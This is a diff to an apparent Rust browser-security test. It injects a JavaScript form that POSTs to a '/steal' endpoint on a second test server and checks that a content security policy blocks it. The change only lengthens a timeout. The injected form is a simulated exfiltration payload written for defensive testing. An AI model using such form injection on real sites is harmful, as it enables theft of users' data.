@@ -148,7 +148,7 @@ async fn an_injected_form_posts_nowhere() {
             "const form = document.body.appendChild(document.createElement('form')); form.method = 'POST'; form.target = '_self'; \
              form.action = '{action}'; form.append(Object.assign(document.createElement('input'), {{name: 'a', value: 'b'}})); \
              return new Promise(done => {{ document.addEventListener('securitypolicyviolation', event => \
-             done(event.effectiveDirective)); setTimeout(() => done('sent'), 3000); form.submit() }})"
+             done(event.effectiveDirective)); setTimeout(() => done('sent'), 30000); form.submit() }})"
         )
     };
     let steal = injected(&format!("{}/steal", elsewhere.url()));
